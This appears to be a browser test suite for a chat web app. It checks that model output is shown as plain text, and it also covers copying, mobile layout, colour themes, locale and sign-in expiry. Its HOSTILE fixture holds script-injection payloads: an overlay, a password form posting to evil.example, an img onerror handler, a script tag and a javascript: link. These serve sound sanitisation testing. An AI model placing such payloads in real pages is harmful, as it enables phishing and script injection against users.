"""The page as a whole: what it lets through, how it looks, where it leads."""

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from app.engine.events import Delta
from tests.scripted_engine import Finish
from tests.ui.browser import steps
from tests.ui.browser.conftest import Visit

pytestmark = pytest.mark.browser

HOSTILE = """Look: <div id="overlay" style="position:fixed;inset:0;background:red">over all</div>
<form action="https://evil.example/"><input name="password"></form>
<img src="https://evil.example/a.png" onerror="document.title='owned'"> ![x](https://evil.example/b.png)
[a]: b "
```
"
<b id="inside">bold</b>
```

`<i>` and <script>document.title='owned'</script> and [link](javascript:alert(1))

- item

  ```
<b id="after">bold</b>
"""


def test_html_of_a_model_is_text(visit: Visit, page: Page) -> None:
    visit.site.engine.will_say(Delta(HOSTILE, 50), Finish())
    steps.say(page, "<b>Be nasty</b> ${1+1} *please*")
    steps.wait_until_over(page)
    expect(steps.answer(page)).to_contain_text('<div id="overlay" style="position:fixed;inset:0;background:red">')
    expect(steps.answer(page)).to_contain_text('<b id="inside">bold</b>')
    expect(steps.answer(page).locator("code", has_text="<i>")).to_be_visible()
    expect(
        page.locator("#talk #overlay, #talk form, #talk img, #talk script, #talk #inside, #talk #after")
    ).to_have_count(0)
    expect(page.locator("#talk a[href^=javascript]")).to_have_count(0)
    expect(page.locator("#talk .user-row")).to_have_text("<b>Be nasty</b> ${1+1} *please*")


def test_answer_is_copied_as_it_was_written(visit: Visit, page: Page) -> None:
    visit.context.grant_permissions(["clipboard-read", "clipboard-write"])
    visit.site.engine.will_say(Delta("**Bold** and <b> and $x$", 5), Finish())
    steps.say(page, "Hello")
    steps.wait_until_over(page)
    page.locator(".hearth-note").last.get_by_role("button", name="Copy").click()
    expect(page.get_by_role("button", name="Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == "**Bold** and <b> and $x$"


def test_phone_has_no_sideways_scrolling_and_big_enough_buttons(visit_with: Callable[..., Visit]) -> None:
    visit = visit_with(viewport={"width": 390, "height": 780}, has_touch=True, is_mobile=True)
    wide = "| " + " | ".join(f"column number {number}" for number in range(9)) + " |\n" + "|---" * 9 + "|\n"
    visit.site.engine.will_say(Delta(f"{wide}\n```\n{'long ' * 60}\n```\n{'w' * 300}", 9), Finish())
    page = visit.open()
    steps.say(page, "W" * 200)
    steps.wait_until_over(page)
    assert page.evaluate("document.scrollingElement.scrollWidth") == 390
    assert page.evaluate("document.querySelector('#talk [role=log]').scrollWidth <= 390")
    page.get_by_role("button", name="Show the list of chats").click()
    expect(steps.chats(page)).to_be_in_viewport()
    small = page.evaluate(
        "[...document.querySelectorAll('button')].filter(b => b.checkVisibility({visibilityProperty: true}))"
        ".filter(b => b.getBoundingClientRect().height < 28 || b.getBoundingClientRect().width < 28)"
        ".map(b => b.outerHTML.slice(0, 90))"
    )
    assert small == []
    steps.chats(page).tap()
    expect(steps.chats(page)).not_to_be_in_viewport()


def test_chosen_colours_are_remembered(visit_with: Callable[..., Visit]) -> None:
    visit = visit_with(color_scheme="light")
    page = visit.open()
    light = page.evaluate("getComputedStyle(document.body).backgroundColor")
    page.get_by_role("button", name="Switch to dark colours").click()
    expect(page.locator("body")).not_to_have_css("background-color", light)
    page.reload()
    expect(page.get_by_role("button", name="Switch to light colours")).to_be_visible()
    expect(page.locator("body.dark")).not_to_have_css("background-color", light)


def test_page_speaks_the_language_of_the_browser(visit_with: Callable[..., Visit]) -> None:
    page = visit_with(locale="zh-CN").open()
    expect(page.get_by_role("button", name="新对话")).to_be_visible()
    expect(page.locator("html")).to_have_attribute("lang", "zh-CN")


def test_page_of_somebody_whose_sign_in_is_over_leads_to_sign_in(visit: Visit, page: Page) -> None:
    visit.site.parts.accounts.set_password(visit.name, "quite another password")
    steps.box(page).fill("Hello")
    steps.box(page).press("Enter")
    page.wait_for_url("**/sign-in")
    # The browser itself reports the refused request.
    visit.complaints.clear()
